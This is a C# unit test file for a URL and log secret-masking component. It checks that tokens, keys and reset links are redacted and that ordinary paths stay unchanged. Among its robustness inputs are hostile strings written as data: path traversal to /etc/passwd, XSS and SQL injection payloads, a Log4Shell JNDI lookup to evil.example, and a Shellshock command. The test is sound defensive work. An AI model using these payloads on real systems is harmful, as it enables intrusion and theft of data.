using System.Text;
using CfLogStream.Core.Traffic.Paths;
using CsCheck;

namespace CfLogStream.Core.Tests.Traffic.Paths;

public sealed class SecretMaskTests
{
    private const string Jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc_DEF-123";
    private const string Random32 = "q7Hk2LwZ9xPt4RbVn8Yc3DsF6gJm1TaE";

    [Theory]
    [InlineData("/verify/" + Jwt, "/verify/***")]
    [InlineData("/download/" + Jwt + "/file", "/download/***/file")]
    [InlineData("/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage", "/bot123456789:***/sendMessage")]
    [InlineData("/bot123456789%3AAAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/getMe", "/bot123456789%3A***/getMe")]
    [InlineData("/file/bot1:x/photo.jpg", "/file/bot1:***/photo.jpg")]
    [InlineData("/services/T012AB3CD/B012AB3CD/abcDEF123ghiJKL456mnoPQR", "/services/T012AB3CD/B012AB3CD/***")]
    [InlineData("/services/T012AB3CD/B012AB3CD/short", "/services/T012AB3CD/B012AB3CD/***")]
    [InlineData("/api/webhooks/123456789012345678/" + Random32 + "_" + Random32, "/api/webhooks/123456789012345678/***")]
    [InlineData("/reset/QWxhZGRpbjpvcGVuIHNlc2FtZQ==", "/reset/***")]
    [InlineData("/reset/MQ123/5x3-abc123def/", "/reset/***/***/")]
    [InlineData("/password-reset/550e8400-e29b-41d4-a716-446655440000", "/password-reset/***")]
    [InlineData("/accept_invite/aBcDeF", "/accept_invite/***")]
    [InlineData("/invite/FRIENDS/join", "/invite/***/join")]
    [InlineData("/verify/482913", "/verify/***")]
    [InlineData("/magic-link/%71%57%78%68%5A123", "/magic-link/***")]
    [InlineData("/activate/1:ts:abc123def456", "/activate/***")]
    [InlineData("/pay/pi_3MtwBwLkdIwHu7ix28a3tqPa/confirm", "/pay/pi_***/confirm")]
    [InlineData("/k/sk_live_4eC39HqLyjWDarjtT1zdp7dc", "/k/***")]
    [InlineData("/k/ghp_16C7e42F292c6912E7710c838347Ae178B4a", "/k/***")]
    [InlineData("/dl/" + Random32 + "/x", "/dl/***/x")]
    [InlineData("/dl/order-" + Random32, "/dl/***")]
    [InlineData("/app;jsessionid=ABC123;lang=de/x", "/app;jsessionid=***;lang=de/x")]
    [InlineData("/x/token=abc/y", "/x/token=***/y")]
    [InlineData("/a/" + Random32 + ".js", "/a/***.js")]
    public void MaskUri_SecretsInPaths_AreMasked(string path, string expected) => Assert.Equal(expected, Uri(path));

    [Theory]
    [InlineData("/")]
    [InlineData("")]
    [InlineData("/api/v1/users/12345")]
    [InlineData("/orders/550e8400-e29b-41d4-a716-446655440000/items/7")]
    [InlineData("/orders/order-550e8400-e29b-41d4-a716-446655440000")]
    [InlineData("/events/01ARZ3NDEKTSV4RRFFQ69G5FAV")]
    [InlineData("/git/commit/9fceb02d0ae598e95dc970b74767f19372d61af8")]
    [InlineData("/sha/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08")]
    [InlineData("/objects/507f1f77bcf86cd799439011")]
    [InlineData("/Accounts/AC0123456789abcdef0123456789abcdef/Messages.json")]
    [InlineData("/v1/customers/cus_NffrFeUfNV2Hib")]
    [InlineData("/trace/00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01")]
    [InlineData("/password/reset")]
    [InlineData("/password/reset/confirm/")]
    [InlineData("/oauth2/token/introspect")]
    [InlineData("/token/v2/refresh")]
    [InlineData("/verify/email")]
    [InlineData("/verify/page2")]
    [InlineData("/reset/index.html")]
    [InlineData("/invite/getUserAccountSettings")]
    [InlineData("/api/verify/users/123")]
    [InlineData("/ApplicationUserController/findAllByOrganizationId2")]
    [InlineData("/blog/how-to-fix-cloudflare-403-errors-in-2025-with-waf-rules")]
    [InlineData("/key-management-service/overview-of-all-regions")]
    [InlineData("/../../etc/passwd")]
    [InlineData("/reset/<script>alert(1)</script>")]
    [InlineData("/invite/%27%20OR%201%3D1--")]
    [InlineData("/cgi-bin/.%2e/.%2e/.%2e/bin/sh")]
    [InlineData("/index.php?id=1'%20UNION%20SELECT%20password,2,3%20FROM%20users--&x=%00")]
    [InlineData("/?q=${jndi:ldap://evil.example/a}&y=<img src=x onerror=alert(1)>")]
    [InlineData("/?x=() { :;}; /bin/cat /etc/passwd")]
    [InlineData("/x?%%%25&=&&==&%=%3D&a=%zz")]
    [InlineData("/search?q=hello+world&page=2&sort=created_at&country_code=de&monkey=1&keyword=x&design=3&author=me&passenger=2&coded=1")]
    [InlineData("/x?id=550e8400-e29b-41d4-a716-446655440000&ts=1741524250123456789&sha=9fceb02d0ae598e95dc970b74767f19372d61af8")]
    [InlineData("/x?token=&key=&password")]
    [InlineData("https://www.example.com/path/page?ref=home#top")]
    public void MaskUri_NoSecrets_StayByteForByte(string uri) => Assert.Equal(uri, Uri(uri));

    [Theory]
    [InlineData("?token=abc&x=1", "?token=***&x=1")]
    [InlineData("a=1&access_token=abc", "a=1&access_token=***")]
    [InlineData("?API-KEY=1&apiKey=2&x[api_key]=3", "?API-KEY=***&apiKey=***&x[api_key]=***")]
    [InlineData("?user%5Bpassword%5D=a%26b;c&z=1", "?user%5Bpassword%5D=***&z=1")]
    [InlineData("?code=4/0AX4&state=xyz&session_state=1", "?code=***&state=xyz&session_state=1")]
    [InlineData("?X-Amz-Signature=abc&X-Amz-Date=20250309T124410Z&Expires=3600", "?X-Amz-Signature=***&X-Amz-Date=***&Expires=3600")]
    [InlineData("?sig=abc&sid=1&jwt=2&hmac=3&secret=4&auth=5&signature=6", "?sig=***&sid=***&jwt=***&hmac=***&secret=***&auth=***&signature=***")]
    [InlineData("?client_secret=1&refreshToken=2&stripe_signature=3", "?client_secret=***&refreshToken=***&stripe_signature=***")]
    [InlineData("?__cf_chl_tk=abc&cf_clearance=def", "?__cf_chl_tk=***&cf_clearance=***")]
    [InlineData("?q=" + Jwt + "&x=1", "?q=***&x=1")]
    [InlineData("?h=Bearer%20" + Jwt, "?h=Bearer%20***")]
    [InlineData("?v=" + Random32 + "&w=sk_live_4eC39HqLyjWDarjtT1zdp7dc", "?v=***&w=***")]
    [InlineData("?v=QWxhZGRpbjpvcGVuIHNlc2FtZQ==&w=1", "?v=***==&w=1")]
    [InlineData("?" + Random32, "?***")]
    [InlineData("?next=https%3A%2F%2Fx.test%2Fcb%3Ftoken%3Dabc%26y%3D1&z=2", "?next=https%3A%2F%2Fx.test%2Fcb%3Ftoken%3D***%26y%3D1&z=2")]
    [InlineData("?n=%252Fcb%253Ftoken%253Dabc%2526y%253D1&z=2", "?n=%252Fcb%253Ftoken%253D***%2526y%253D1&z=2")]
    [InlineData("?n=%2Freset%2F" + Random32, "?n=%2Freset%2F***")]
    [InlineData("?t%6Fken=abc", "?t%6Fken=***")]
    [InlineData("?a=1;token=x;b=2", "?a=1;token=***")]
    [InlineData("?token=***&x=1", "?token=***&x=1")]
    public void MaskQuery_Secrets_AreMasked(string query, string expected) => Assert.Equal(expected, Query(query));

    [Theory]
    [InlineData("https://user:pa:ss@example.com/x", "https://user:***@example.com/x")]
    [InlineData("https://ghp_abc@example.com", "https://***@example.com")]
    [InlineData("https://example.com/a@b", "https://example.com/a@b")]
    [InlineData("https://example.com/cb#access_token=abc&x=1", "https://example.com/cb#access_token=***&x=1")]
    [InlineData("https://example.com/reset/AbC123?sid=9", "https://example.com/reset/***?sid=***")]
    [InlineData("/go?u=https://user:x@h/", "/go?u=https://user:x@h/")]
    [InlineData("android-app://com.example/x", "android-app://com.example/x")]
    public void MaskUri_Referers_AreMasked(string referer, string expected) => Assert.Equal(expected, Uri(referer));

    [Theory]
    [InlineData("accept", true)]
    [InlineData("Accept-Language", true)]
    [InlineData("content-type", true)]
    [InlineData("origin", true)]
    [InlineData("sec-fetch-site", true)]
    [InlineData("Sec-CH-UA", true)]
    [InlineData("sec-ch-ua-platform", true)]
    [InlineData("x-requested-with", true)]
    [InlineData("User-Agent", true)]
    [InlineData("x-amz-user-agent", true)]
    [InlineData("access-control-request-method", true)]
    [InlineData("authorization", false)]
    [InlineData("cookie", false)]
    [InlineData("x-api-key", false)]
    [InlineData("stripe-signature", false)]
    [InlineData("x-hub-signature-256", false)]
    [InlineData("acceptor", false)]
    [InlineData("cf-access-jwt-assertion", false)]
    [InlineData("", false)]
    public void KeepHeaderValue_Name_DecidesByAllowList(string name, bool keep) =>
        Assert.Equal(keep, SecretMask.KeepHeaderValue(Encoding.UTF8.GetBytes(name)));

    [Fact]
    public void Mask_AnyBytes_KeepsLimitsAndIsIdempotent()
    {
        string[] pieces =
        [
            "token", "reset", "services", "T012AB3CD", "bot12", "eyJhbGciOiJIUzI1NiJ9", Random32, "***", "invite", "x", "1", "sk_live_4eC39HqLyjWDarj",
            "/", "/", "?", "&", "=", ";", "#", ":", "@", ".", "%3D", "%26", "%253D", "%", "-", "_", "://", "http://", "%2F", "\u00e9", " ",
        ];
        Gen.Int[0, pieces.Length - 1].Array[0, 40].Sample(
            chosen => Check(Encoding.UTF8.GetBytes(string.Concat(chosen.Select(i => pieces[i])))), iter: 30_000);
        Gen.Byte.Array[0, 200].Sample(Check, iter: 8_000);
    }

    [Fact]
    public void Mask_RandomSecretsWithoutNames_AreNeverStored()
    {
        const string Base62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
        foreach (string alphabet in new[] { Base62, Base62 + "-_", "0123456789abcdefghijklmnopqrstuvwxyz" })
        {
            var random = new Random(7);
            int kept = 0;
            for (int i = 0; i < 10_000; i++)
            {
                string secret = random.GetString(alphabet, 32);
                kept += Uri("/x/" + secret + "/y?v=" + secret).Contains(secret, StringComparison.Ordinal) ? 1 : 0;
            }

            Assert.True(kept <= 15, $"{kept} of 10000 tokens of 32 from '{alphabet}' were kept (seed 7).");
        }
    }

    [Fact]
    public void Mask_LiteralPaths_StayByteForByte() => Assert.All(LiteralPaths.All, path => Assert.Equal(path, Uri(path)));

    [Fact]
    public void Mask_DestinationTooSmall_Throws()
    {
        Assert.Throws<ArgumentOutOfRangeException>(() => SecretMask.MaskUri("/a"u8, new byte[SecretMask.MaxLength(2) - 1]));
        Assert.Throws<ArgumentOutOfRangeException>(() => SecretMask.MaskQuery("/a"u8, new byte[SecretMask.MaxLength(2) - 1]));
    }

    [Fact]
    public void Mask_WarmedUp_AllocatesNothing()
    {
        byte[] uri = Encoding.UTF8.GetBytes("/reset/%41bc123/" + Random32 + "?token=1&n=%252Fcb%253Ftoken%253Dabc&q=" + Jwt);
        byte[] destination = new byte[SecretMask.MaxLength(uri.Length)];
        long allocated = Allocations.Of(() =>
        {
            SecretMask.MaskUri(uri, destination);
            SecretMask.KeepHeaderValue("sec-fetch-mode"u8);
        });
        Assert.Equal(0, allocated);
    }

    private static void Check(byte[] text)
    {
        byte[] first = new byte[SecretMask.MaxLength(text.Length)];
        int length = SecretMask.MaskUri(text, first);
        CheckAgain(first.AsSpan(0, length), SecretMask.MaskUri);
        length = SecretMask.MaskQuery(text, first);
        CheckAgain(first.AsSpan(0, length), SecretMask.MaskQuery);
    }

    private delegate int Masking(ReadOnlySpan<byte> text, Span<byte> destination);

    private static void CheckAgain(ReadOnlySpan<byte> masked, Masking mask)
    {
        byte[] second = new byte[SecretMask.MaxLength(masked.Length)];
        int length = mask(masked, second);
        Assert.Equal(Encoding.Latin1.GetString(masked), Encoding.Latin1.GetString(second, 0, length));
    }

    private static string Uri(string text) => Run(text, SecretMask.MaskUri);

    private static string Query(string text) => Run(text, SecretMask.MaskQuery);

    private static string Run(string text, Masking mask)
    {
        byte[] bytes = Encoding.UTF8.GetBytes(text);
        byte[] destination = new byte[SecretMask.MaxLength(bytes.Length)];
        return Encoding.UTF8.GetString(destination, 0, mask(bytes, destination));
    }
}
